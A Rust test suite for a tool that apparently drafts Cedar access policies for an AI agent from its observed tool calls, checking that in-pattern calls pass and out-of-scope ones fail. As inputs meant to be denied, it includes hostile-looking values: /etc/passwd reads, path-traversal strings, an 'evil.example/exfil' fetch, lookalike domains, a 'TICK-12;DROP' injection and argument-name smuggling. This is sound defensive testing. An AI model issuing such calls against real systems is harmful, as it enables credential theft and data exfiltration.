//! Generalization quality, measured per kind: a draft trained on a pattern
//! of calls allows a held-out call of the same pattern and denies a nearby
//! out-of-scope one (another directory, another domain, a larger amount, a
//! new tool, a destructive twin of a read tool, ...). Every call is judged
//! by the drafted Cedar policy itself.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use remit_draft::{
    draft, ArgFacts, Call, DraftOptions, DraftPolicy, HashKey, LiveVerdict, Observation,
};
use remit_policy::Classification;
use serde_json::{json, Value};

const AGENT: &str = "coder";

fn key() -> HashKey {
    HashKey::new(b"a test key of 32 bytes, not real").unwrap()
}

fn call(tool: &str, args: Value) -> Call {
    Call {
        agent: AGENT.into(),
        tool: tool.into(),
        args: ArgFacts::project(&args, &key()),
        data_class: Classification::Internal,
        pii: Default::default(),
        secrets: Default::default(),
        chain_depth: 0,
        hour_utc: 10,
    }
}

fn observed(calls: impl IntoIterator<Item = Call>) -> Vec<Observation> {
    calls
        .into_iter()
        .enumerate()
        .map(|(i, mut call)| {
            call.hour_utc = 8 + (i % 10) as u8;
            Observation {
                call,
                at: 1_796_601_600 + i as i64 * 60,
                verdict: LiveVerdict::Allow,
            }
        })
        .collect()
}

fn drafted(obs: &[Observation]) -> DraftPolicy {
    let d = draft(
        obs,
        &DraftOptions {
            agent: AGENT.into(),
            ..Default::default()
        },
    );
    let text = d.to_cedar();
    DraftPolicy::compile(&text).unwrap_or_else(|e| panic!("{e}\n{text}"))
}

fn assert_allows(p: &DraftPolicy, c: &Call) {
    assert!(p.allows(c), "should allow {c:?}");
}

fn assert_denies(p: &DraftPolicy, c: &Call) {
    assert!(!p.allows(c), "should deny {c:?}");
}

fn read_files() -> Vec<Observation> {
    let files = [
        "/repo/acme/src/lib.rs",
        "/repo/acme/src/main.rs",
        "/repo/acme/src/net/http.rs",
        "/repo/acme/tests/api.rs",
        "/repo/acme/README.md",
        "/repo/acme/docs/guide.md",
    ];
    observed(
        files
            .iter()
            .cycle()
            .take(60)
            .map(|f| call("fs/read_file", json!({ "path": f }))),
    )
}

#[test]
fn paths_held_out_file_in_the_tree_is_allowed_another_directory_is_denied() {
    let p = drafted(&read_files());
    assert_allows(
        &p,
        &call("fs/read_file", json!({"path": "/repo/acme/src/new/mod.rs"})),
    );
    assert_allows(
        &p,
        &call("fs/read_file", json!({"path": "/repo/acme/Cargo.toml"})),
    );
    assert_denies(
        &p,
        &call("fs/read_file", json!({"path": "/repo/other/src/lib.rs"})),
    );
    assert_denies(&p, &call("fs/read_file", json!({"path": "/etc/passwd"})));
    assert_denies(
        &p,
        &call("fs/read_file", json!({"path": "/repo/acmeX/a.rs"})),
    );
}

#[test]
fn path_traversal_out_of_the_drafted_tree_is_denied() {
    let p = drafted(&read_files());
    for path in [
        "/repo/acme/../../etc/passwd",
        "/repo/acme/src/../../other/x",
        "/repo/acme/../../../../x",
    ] {
        assert_denies(&p, &call("fs/read_file", json!({ "path": path })));
    }
}

#[test]
fn new_tool_and_destructive_twin_of_a_read_tool_are_denied() {
    let p = drafted(&read_files());
    assert_denies(
        &p,
        &call("fs/delete_file", json!({"path": "/repo/acme/src/lib.rs"})),
    );
    assert_denies(
        &p,
        &call("fs/write_file", json!({"path": "/repo/acme/src/lib.rs"})),
    );
    assert_denies(&p, &call("shell/exec", json!({"command": "ls"})));
}

#[test]
fn unobserved_argument_or_other_kind_under_a_known_name_is_denied() {
    let p = drafted(&read_files());
    assert_denies(
        &p,
        &call(
            "fs/read_file",
            json!({"path": "/repo/acme/a.rs", "follow": true}),
        ),
    );
    assert_denies(
        &p,
        &call("fs/read_file", json!({"path": "https://evil.example/a.rs"})),
    );
    assert_denies(&p, &call("fs/read_file", json!({"path": 42})));
    assert_denies(&p, &call("fs/read_file", json!({})));
}

#[test]
fn fact_key_smuggling_through_an_argument_name_is_denied() {
    let p = drafted(&read_files());
    assert_denies(
        &p,
        &call(
            "fs/read_file",
            json!({"path": "/etc/passwd", "path#dir": "/repo/acme/"}),
        ),
    );
}

fn fetches() -> Vec<Observation> {
    let urls = [
        "https://docs.rs/serde/latest/serde/",
        "https://docs.rs/tokio",
        "https://en.wikipedia.org/wiki/Cedar",
        "https://de.wikipedia.org/wiki/Zeder",
        "https://fr.wikipedia.org/wiki/C%C3%A8dre",
        "https://arxiv.org/abs/2403.01234",
    ];
    observed(
        urls.iter()
            .cycle()
            .take(60)
            .map(|u| call("web/fetch", json!({ "url": u }))),
    )
}

#[test]
fn domains_held_out_page_on_a_seen_domain_is_allowed_another_domain_is_denied() {
    let p = drafted(&fetches());
    assert_allows(
        &p,
        &call("web/fetch", json!({"url": "https://docs.rs/cedar-policy"})),
    );
    assert_allows(
        &p,
        &call(
            "web/fetch",
            json!({"url": "https://arxiv.org/abs/2501.00001"}),
        ),
    );
    // three language subdomains seen: the draft admits *.wikipedia.org
    assert_allows(
        &p,
        &call(
            "web/fetch",
            json!({"url": "https://it.wikipedia.org/wiki/Cedro"}),
        ),
    );
    assert_denies(
        &p,
        &call(
            "web/fetch",
            json!({"url": "https://evil.example/exfil?d=1"}),
        ),
    );
    assert_denies(
        &p,
        &call("web/fetch", json!({"url": "https://docs.rs.evil.example/"})),
    );
    assert_denies(
        &p,
        &call("web/fetch", json!({"url": "http://docs.rs/serde"})),
    );
    assert_denies(
        &p,
        &call(
            "web/fetch",
            json!({"url": "https://wikipedia.org.evil.example/"}),
        ),
    );
}

#[test]
fn emails_held_out_colleague_is_allowed_an_outside_domain_is_denied() {
    let people = [
        "ann@acme.com",
        "bob@acme.com",
        "cy@acme.com",
        "dee@acme.com",
    ];
    let obs = observed(people.iter().cycle().take(40).map(|to| {
        call(
            "mail/send",
            json!({"to": to, "subject": "weekly report", "body": "numbers attached as discussed"}),
        )
    }));
    let p = drafted(&obs);
    assert_allows(
        &p,
        &call(
            "mail/send",
            json!({"to": "eve@acme.com", "subject": "hi", "body": "short note"}),
        ),
    );
    assert_denies(
        &p,
        &call(
            "mail/send",
            json!({"to": "eve@gmail.com", "subject": "hi", "body": "short note"}),
        ),
    );
    // a much longer body than ever sent (exfiltration) is denied
    let long = "x ".repeat(2000);
    assert_denies(
        &p,
        &call(
            "mail/send",
            json!({"to": "ann@acme.com", "subject": "hi", "body": long}),
        ),
    );
}

fn refunds() -> Vec<Observation> {
    observed((0..50).map(|i| {
        let amount = 5.0 + f64::from(i) * 9.37;
        let currency = ["EUR", "USD"][i as usize % 2];
        call(
            "payments/refund",
            json!({"ticket": format!("TICK-{}", 1000 + i * 7), "amount": amount, "currency": currency}),
        )
    }))
}

#[test]
fn amounts_held_out_amount_in_range_is_allowed_a_larger_one_is_denied() {
    let p = drafted(&refunds());
    let r = |amount: f64, currency: &str, ticket: &str| {
        call(
            "payments/refund",
            json!({"ticket": ticket, "amount": amount, "currency": currency}),
        )
    };
    assert_allows(&p, &r(123.45, "EUR", "TICK-4242"));
    assert_denies(&p, &r(5000.0, "EUR", "TICK-4242"));
    assert_denies(&p, &r(-20.0, "EUR", "TICK-4242"));
    // an enumeration seen: EUR and USD only
    assert_denies(&p, &r(10.0, "BTC", "TICK-4242"));
    // identifiers by pattern class: another prefix or shape is denied
    assert_allows(&p, &r(10.0, "USD", "TICK-99999"));
    assert_denies(&p, &r(10.0, "USD", "ACME-1234"));
    assert_denies(&p, &r(10.0, "USD", "TICK-12;DROP"));
}

#[test]
fn sensitive_enumerations_are_matched_by_keyed_hash_and_never_stored_raw() {
    let accounts = ["DE89370400440532013000", "GB29NWBK60161331926819"];
    let obs = observed(
        accounts
            .iter()
            .cycle()
            .take(30)
            .map(|a| call("bank/balance", json!({ "account": a }))),
    );
    for o in &obs {
        let stored = serde_json::to_string(o).unwrap();
        assert!(!accounts.iter().any(|a| stored.contains(a)), "{stored}");
    }
    let p = drafted(&obs);
    let text = draft(
        &obs,
        &DraftOptions {
            agent: AGENT.into(),
            ..Default::default()
        },
    )
    .to_cedar();
    assert!(!accounts.iter().any(|a| text.contains(a)));
    assert_allows(&p, &call("bank/balance", json!({"account": accounts[1]})));
    assert_denies(
        &p,
        &call(
            "bank/balance",
            json!({"account": "FR7630006000011234567890189"}),
        ),
    );
}

#[test]
fn data_class_secrets_delegation_and_hours_beyond_what_was_seen_are_denied() {
    let p = drafted(&read_files());
    let base = || call("fs/read_file", json!({"path": "/repo/acme/src/lib.rs"}));
    assert_allows(&p, &base());
    let mut c = base();
    c.data_class = Classification::Restricted;
    assert_denies(&p, &c);
    let mut c = base();
    c.secrets.insert("aws_access_key".into());
    assert_denies(&p, &c);
    let mut c = base();
    c.chain_depth = 2;
    assert_denies(&p, &c);
    let mut c = base();
    c.hour_utc = 3;
    assert_denies(&p, &c);
}

#[test]
fn rules_resting_on_a_handful_of_calls_are_flagged() {
    let mut obs = read_files();
    obs.extend(observed([call(
        "fs/list_dir",
        json!({"path": "/repo/acme/"}),
    )]));
    let d = draft(
        &obs,
        &DraftOptions {
            agent: AGENT.into(),
            ..Default::default()
        },
    );
    let list = d.rules.iter().find(|r| r.tool == "fs/list_dir").unwrap();
    assert!(list.flagged());
    let read = d.rules.iter().find(|r| r.tool == "fs/read_file").unwrap();
    assert!(!read.flagged());
    let text = d.to_cedar();
    assert!(text.contains("FLAGGED"));
    assert!(text.contains("60 calls"));
}

#[test]
fn every_observed_call_is_allowed_by_its_draft() {
    for obs in [read_files(), fetches(), refunds()] {
        let p = drafted(&obs);
        for o in &obs {
            assert_allows(&p, &o.call);
        }
    }
}
